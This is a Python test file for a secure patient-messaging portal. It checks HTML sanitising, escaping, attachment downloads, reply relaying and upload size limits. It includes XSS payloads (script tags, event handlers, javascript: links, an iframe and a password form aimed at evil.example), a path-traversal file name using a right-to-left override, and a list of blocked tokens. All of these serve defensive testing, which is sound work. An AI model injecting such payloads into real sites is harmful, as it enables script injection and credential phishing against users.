"""Reading, downloading and replying, over real HTTP against a running portal."""

from __future__ import annotations

from email import message_from_bytes
from email.policy import default

from sqlalchemy import func, select

from sigillo.store.models import ConversationMessage, JobKind, Message
from tests.portal.harness import PortalHarness, staff_message

ANNA = "anna@example.net"

HOSTILE_HTML = """<p>Results below.</p>
<script>document.title='pwned'</script>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)">
<a href="javascript:alert(1)">open</a>
<a href="https://org.example/info" onclick="alert(2)">info</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"></form>
<svg onload="alert(3)"></svg>"""


async def _open(portal: PortalHarness, content: bytes) -> tuple[object, str, str]:
    seeded = await portal.seed(ANNA, content)
    client = portal.client()
    await client.register(seeded.token)
    return client, f"/conversations/{seeded.conversation_id}", seeded.message_id


async def test_hostile_html_is_shown_harmless(portal: PortalHarness) -> None:
    client, path, _ = await _open(portal, staff_message(ANNA, html=HOSTILE_HTML))
    page = (await client.get(path)).text  # type: ignore[attr-defined]
    body = page.split('<ol class="thread">')[1].split("</ol>")[0]
    assert "Results below." in body
    for hostile in (
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "style=",
        "tracker.example",
        "<iframe",
        "<form",
        "<svg",
        "onload",
        "<img",
    ):
        assert hostile not in body, hostile
    assert 'href="https://org.example/info"' in body


async def test_hostile_subjects_and_names_are_escaped(portal: PortalHarness) -> None:
    content = staff_message(
        ANNA,
        subject="<script>alert(1)</script> results",
        attachments=(("../../etc/\u202egpj.exe", "application/octet-stream", b"MZ"),),
    )
    client, path, message_id = await _open(portal, content)
    page = (await client.get(path)).text  # type: ignore[attr-defined]
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    assert "\u202e" not in page and "../" not in page
    download = await client.get(f"{path}/messages/{message_id}/attachments/0")  # type: ignore[attr-defined]
    disposition = download.headers["content-disposition"]
    assert disposition.startswith("attachment;") and "/" not in disposition.split("filename")[1]
    assert "%E2%80%AE" not in disposition


async def test_attachments_download_as_files(portal: PortalHarness) -> None:
    pdf = b"%PDF-1.4 results " + bytes(range(256))
    html = b"<script>alert(1)</script>"
    client, path, message_id = await _open(
        portal,
        staff_message(
            ANNA,
            attachments=(("referto.pdf", "application/pdf", pdf), ("page.html", "text/html", html)),
        ),
    )
    first = await client.get(f"{path}/messages/{message_id}/attachments/0")  # type: ignore[attr-defined]
    assert first.status_code == 200 and first.content == pdf
    assert first.headers["content-disposition"].startswith('attachment; filename="referto.pdf"')
    assert first.headers["x-content-type-options"] == "nosniff"
    second = await client.get(f"{path}/messages/{message_id}/attachments/1")  # type: ignore[attr-defined]
    # An HTML attachment is a download, never a page of the portal's origin.
    assert second.headers["content-type"] == "application/octet-stream"
    assert second.content == html
    downloads = await portal.audit("portal.download")
    assert [(e.message_id, (e.details or {})["attachment"]) for e in downloads] == [
        (message_id, 0),
        (message_id, 1),
    ]


async def test_a_reply_goes_to_staff_through_the_relay_and_joins_the_conversation(
    portal: PortalHarness,
) -> None:
    original = staff_message(ANNA, subject="Appointment")
    client, path, _ = await _open(portal, original)
    staff_id = message_from_bytes(original, policy=default)["Message-ID"]
    await client.get(path)  # type: ignore[attr-defined]
    response = await client.http.post(  # type: ignore[attr-defined]
        f"{path}/reply",
        data={"csrf_token": client.csrf(), "body": "Thursday works for me."},  # type: ignore[attr-defined]
        files=[("attachments", ("note.txt", b"allergy: none", "text/plain"))],
    )
    assert response.status_code == 303
    page = await client.get(response.headers["location"])  # type: ignore[attr-defined]
    assert "Thursday works for me." in page.text and "note.txt" in page.text
    (relay,) = await portal.jobs(JobKind.RELAY)
    assert relay.recipient == "doctor@org.example"
    (stored,) = await portal.mail(JobKind.RELAY, "doctor@org.example")
    reply = message_from_bytes(stored, policy=default)
    assert reply["From"] == ANNA and reply["In-Reply-To"] == staff_id
    assert reply["Subject"] == "Re: Appointment"
    assert [p.get_filename() for p in reply.iter_attachments()] == ["note.txt"]
    assert await portal.jobs(JobKind.MAIL) == []  # no copy unless asked
    (event,) = await portal.audit("portal.reply")
    assert event.actor == ANNA and (event.details or {})["attachments"] == 1


async def test_send_me_a_copy_mails_the_author_a_marked_copy(portal: PortalHarness) -> None:
    client, path, _ = await _open(portal, staff_message(ANNA))
    page = await client.get(path)  # type: ignore[attr-defined]
    assert "its security cannot be guaranteed" in page.text
    response = await client.http.post(  # type: ignore[attr-defined]
        f"{path}/reply",
        data={"csrf_token": client.csrf(), "body": "See you then.", "send_copy": "1"},  # type: ignore[attr-defined]
    )
    assert response.status_code == 303
    (copy,) = await portal.mail(JobKind.MAIL, ANNA)
    parsed = message_from_bytes(copy, policy=default)
    assert parsed["From"] == "secure@org.example" and parsed["In-Reply-To"] is None
    assert parsed["Subject"].startswith("Copy of your reply")
    text = parsed.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert "ordinary email" in text and "See you then." in text


async def test_an_empty_reply_is_refused(portal: PortalHarness) -> None:
    client, path, _ = await _open(portal, staff_message(ANNA))
    response = await client.submit(path, f"{path}/reply", body="   ")  # type: ignore[attr-defined]
    assert response.status_code == 400 and "Write a message" in response.text
    assert await portal.jobs(JobKind.RELAY) == []


async def test_a_50_mb_upload_is_refused_and_nothing_is_kept(portal: PortalHarness) -> None:
    client, path, _ = await _open(portal, staff_message(ANNA))
    await client.get(path)  # type: ignore[attr-defined]
    big = b"\0" * (50 * 1024 * 1024)
    response = await client.http.post(  # type: ignore[attr-defined]
        f"{path}/reply",
        data={"csrf_token": client.csrf(), "body": "scan attached"},  # type: ignore[attr-defined]
        files=[("attachments", ("scan.bin", big, "application/octet-stream"))],
    )
    assert response.status_code == 413
    assert await portal.jobs(JobKind.RELAY) == []
    async with portal.store.session() as session:
        replies = await session.execute(
            select(func.count())
            .select_from(ConversationMessage)
            .where(ConversationMessage.direction == "in")
        )
        assert replies.scalar_one() == 0
    # The portal keeps serving.
    assert (await client.get(path)).status_code == 200  # type: ignore[attr-defined]


async def test_a_chunked_upload_without_length_is_cut_off_too(portal: PortalHarness) -> None:
    client, path, _ = await _open(portal, staff_message(ANNA))
    await client.get(path)  # type: ignore[attr-defined]
    token = client.csrf()  # type: ignore[attr-defined]
    boundary = "sigilloboundary"

    async def body():  # type: ignore[no-untyped-def]
        yield (
            f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="attachments"; filename="x"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        for _ in range(30):
            yield b"\0" * (1024 * 1024)
        yield f"\r\n--{boundary}--\r\n".encode()

    response = await client.http.post(  # type: ignore[attr-defined]
        f"{path}/reply",
        content=body(),
        headers={"content-type": f"multipart/form-data; boundary={boundary}"},
    )
    assert response.status_code == 413
    assert await portal.jobs(JobKind.RELAY) == []


async def test_the_latest_link_shows_the_whole_history(portal: PortalHarness) -> None:
    first = staff_message(ANNA, subject="Results", text="First letter.")
    seeded = await portal.seed(ANNA, first)
    client = portal.client()
    await client.register(seeded.token)
    path = f"/conversations/{seeded.conversation_id}"
    await client.submit(path, f"{path}/reply", body="A question from me.")
    (stored,) = await portal.mail(JobKind.RELAY, "doctor@org.example")
    reply_id = message_from_bytes(stored, policy=default)["Message-ID"]
    answer = staff_message(ANNA, subject="Re: Results", text="Our answer.", in_reply_to=reply_id)
    latest = await portal.seed(ANNA, answer)
    assert latest.conversation_id == seeded.conversation_id  # threaded, not a new conversation
    landing = await client.get(f"/c/{latest.token}")
    page = await client.get(landing.headers["location"])
    texts = ["First letter.", "A question from me.", "Our answer."]
    positions = [page.text.index(t) for t in texts]
    assert positions == sorted(positions)
    async with portal.store.session() as session:
        assert (await session.execute(select(func.count()).select_from(Message))).scalar_one() == 3
